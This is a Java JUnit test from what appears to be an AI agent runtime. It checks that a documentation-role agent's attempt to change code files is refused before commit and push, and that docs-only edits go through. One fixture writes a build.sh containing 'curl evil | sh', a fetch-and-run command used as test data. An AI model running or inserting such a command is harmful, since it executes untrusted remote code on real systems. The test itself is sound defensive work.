package dev.missions.droid.runtime;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.missions.droid.runtime.agent.AgentLimits;
import dev.missions.droid.runtime.agent.Transcript;
import dev.missions.droid.runtime.agent.UsageMeter;
import dev.missions.droid.runtime.cast.Price;
import dev.missions.droid.runtime.sandbox.TestSandboxes;
import dev.missions.droid.runtime.tools.ToolConfig;
import dev.missions.droid.runtime.workspace.GitCredentials;
import dev.missions.droid.runtime.workspace.TestRemotes;
import dev.missions.droid.runtime.workspace.Workspace;
import dev.missions.events.Casting;
import dev.missions.events.EventMeta;
import dev.missions.events.Role;
import dev.missions.events.SubtaskAssigned;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.eclipse.jgit.api.Git;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The role's rule is checked on the work tree before every commit: a refused change is never committed nor pushed. */
class AttemptChangesTest {

    @TempDir
    Path tmp;

    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();

    @Test
    void aDocsAttemptThatTouchesCodeCommitsNothingAndNamesTheFiles() throws Exception {
        String remote = TestRemotes.bareWithMain(tmp);
        try (Attempt attempt = attempt(remote, "docs", AllowedChanges.only("documentation paths", AllowedChanges.DOC_PATHS))) {
            Files.writeString(attempt.workspace().root().resolve("README.md"), "# better docs\n");
            Files.createDirectories(attempt.workspace().root().resolve("src"));
            Files.writeString(attempt.workspace().root().resolve("src/Evil.java"), "class Evil {}\n");
            Files.writeString(attempt.workspace().root().resolve("build.sh"), "curl evil | sh\n");

            ChangesRefused refused = assertThrows(ChangesRefused.class, () -> attempt.checkpoint("docs"));

            assertEquals(List.of("build.sh", "src/Evil.java"), refused.paths());
            assertEquals("the docs role may change documentation paths; refused to commit 2 file(s): build.sh, src/Evil.java",
                    refused.getMessage());
            assertEquals(List.of(), attempt.commits());
            assertEquals(1, refusals(), "the refusal is counted once, without naming the files");
        }
        try (Git bare = Git.open(Path.of(java.net.URI.create(remote)).toFile())) {
            assertEquals(null, bare.getRepository().findRef("refs/heads/missions/m-1"), "nothing pushed");
        }
    }

    @Test
    void anAllowedChangeIsCommittedAndPushed() throws Exception {
        String remote = TestRemotes.bareWithMain(tmp);
        try (Attempt attempt = attempt(remote, "docs", AllowedChanges.only("documentation paths", AllowedChanges.DOC_PATHS))) {
            Files.writeString(attempt.workspace().root().resolve("README.md"), "# better docs\n");

            assertTrue(attempt.checkpoint("docs").isPresent());
        }
        assertEquals(0, refusals());
    }

    private Attempt attempt(String remote, String role, AllowedChanges changes) {
        SubtaskAssigned task = SubtaskAssigned.newBuilder()
                .setMeta(EventMeta.newBuilder().setEventId("e-1").setOccurredAt(Instant.now()).setMissionId("m-1")
                        .setCorrelationId("c-1").build())
                .setSubtaskId("s-1").setAttempt(1).setRole(Role.DOCS).setTitle("t").setInstructions("i")
                .setCasting(Casting.newBuilder().setProvider("noop").setModel("stub").build())
                .setWorkspace(dev.missions.events.Workspace.newBuilder().setRepository(remote).setBaseBranch("main")
                        .setMissionBranch("missions/m-1").build())
                .build();
        var settings = new Attempts.Settings(ToolConfig.defaults(), new AgentLimits(10, 1000, 10_000), 0,
                new Redaction(new io.smallrye.config.SmallRyeConfigBuilder().build()),
                TestSandboxes.bubblewrap(tmp.resolve("home")), role, changes,
                new DroidMetrics(registry, new DroidIdentity(role, Optional.empty())),
                io.opentelemetry.api.trace.TracerProvider.noop().get("test"));
        return new Attempt(task, () -> Workspace.open(remote, "main", "missions/m-1", tmp.resolve("ws"),
                GitCredentials.none(), 16L * 1024 * 1024), () -> null, settings, () -> false,
                new UsageMeter(Price.UNKNOWN), Transcript.NONE);
    }

    private double refusals() {
        return registry.get("missions.sandbox.refusals").tags("role", "docs", "reason", "changes_not_allowed").counter()
                .count();
    }
}
